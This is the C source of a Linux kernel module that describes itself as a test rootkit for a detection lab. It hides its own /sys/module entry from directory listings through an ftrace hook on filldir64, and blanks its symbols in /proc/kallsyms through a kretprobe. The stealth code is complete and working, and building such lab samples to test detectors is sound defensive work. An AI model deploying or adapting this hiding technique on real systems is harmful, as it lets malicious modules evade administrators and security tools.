// SPDX-License-Identifier: GPL-2.0
/*
 * pg_mod_hide: a test rootkit of patchguard's kernel lab (tests/lab/test_lab_ftrace_ops.py).
 * It hides itself from two text views, for every process, without touching the kernel's own
 * lists: its symbols from /proc/kallsyms (a kretprobe on module_get_kallsym() blanks the name
 * of each of its symbols, and kallsyms skips a symbol without a name) and its /sys/module
 * entry from directory listings (an IPMODIFY ftrace hook on filldir64() drops the entry; the
 * directory still opens by name and its kobject stays in sysfs).
 *
 *   insmod pg_mod_hide.ko filldir=0x<address of filldir64>
 *
 * rmmod undoes both.
 */
#include <linux/fs.h>
#include <linux/ftrace.h>
#include <linux/kprobes.h>
#include <linux/module.h>
#include <linux/moduleparam.h>
#include <linux/string.h>

static unsigned long filldir;
module_param(filldir, ulong, 0444);
MODULE_PARM_DESC(filldir, "address of filldir64 (from /proc/kallsyms)");
static unsigned long dropped, blanked;
module_param(dropped, ulong, 0444);
module_param(blanked, ulong, 0444);

typedef bool (*filldir_fn)(struct dir_context *, const char *, int, loff_t, u64, unsigned int);

static bool pg_filldir(struct dir_context *ctx, const char *name, int namlen, loff_t offset,
		       u64 ino, unsigned int d_type)
{
	const char *me = THIS_MODULE->name;
	bool more;

	if (namlen == strlen(me) && !memcmp(name, me, namlen)) {
		WRITE_ONCE(dropped, READ_ONCE(dropped) + 1);
		return true; /* go on with the next entry: this one is never emitted */
	}
	/* Not a tail call: the real one must see a return address in this module, or the
	 * ftrace callback below sends it here again, for ever. */
	more = ((filldir_fn)filldir)(ctx, name, namlen, offset, ino, d_type);
	barrier();
	return more;
}

static void notrace pg_redirect(unsigned long ip, unsigned long parent_ip, struct ftrace_ops *op,
				struct ftrace_regs *fregs)
{
	struct pt_regs *regs = ftrace_get_regs(fregs);

	if (!within_module(parent_ip, THIS_MODULE)) /* not our own call of the real one */
		regs->ip = (unsigned long)pg_filldir;
}

static struct ftrace_ops pg_ops = {
	.func = pg_redirect,
	.flags = FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_IPMODIFY | FTRACE_OPS_FL_RECURSION,
};

struct pg_call {
	char *name;
	char *module_name;
};

static int pg_entry(struct kretprobe_instance *ri, struct pt_regs *regs)
{
	struct pg_call *call = (struct pg_call *)ri->data;

	call->name = (char *)regs->cx;
	call->module_name = (char *)regs->r8;
	return 0;
}

static int pg_return(struct kretprobe_instance *ri, struct pt_regs *regs)
{
	struct pg_call *call = (struct pg_call *)ri->data;

	if (regs_return_value(regs) == 0 && call->name && call->module_name &&
	    !strcmp(call->module_name, THIS_MODULE->name)) {
		call->name[0] = '\0';
		WRITE_ONCE(blanked, READ_ONCE(blanked) + 1);
	}
	return 0;
}

static struct kretprobe pg_probe = {
	.kp.symbol_name = "module_get_kallsym",
	.entry_handler = pg_entry,
	.handler = pg_return,
	.data_size = sizeof(struct pg_call),
	.maxactive = 64,
};

static bool hooked, probed;

static void pg_undo(void)
{
	if (probed)
		unregister_kretprobe(&pg_probe);
	if (hooked)
		unregister_ftrace_function(&pg_ops);
	ftrace_free_filter(&pg_ops);
}

static int __init pg_mod_hide_init(void)
{
	int err;

	if (!filldir)
		return -EINVAL;
	err = ftrace_set_filter_ip(&pg_ops, filldir, 0, 0);
	if (!err)
		err = register_ftrace_function(&pg_ops);
	hooked = !err;
	if (!err)
		err = register_kretprobe(&pg_probe);
	probed = hooked && !err;
	if (err) {
		pr_err("pg_mod_hide: %d\n", err);
		pg_undo();
		return err;
	}
	pr_info("pg_mod_hide: symbols and /sys/module entry hidden from every process\n");
	return 0;
}

static void __exit pg_mod_hide_exit(void)
{
	pg_undo();
}

module_init(pg_mod_hide_init);
module_exit(pg_mod_hide_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("patchguard lab test rootkit: a module hidden from kallsyms and sysfs listings");
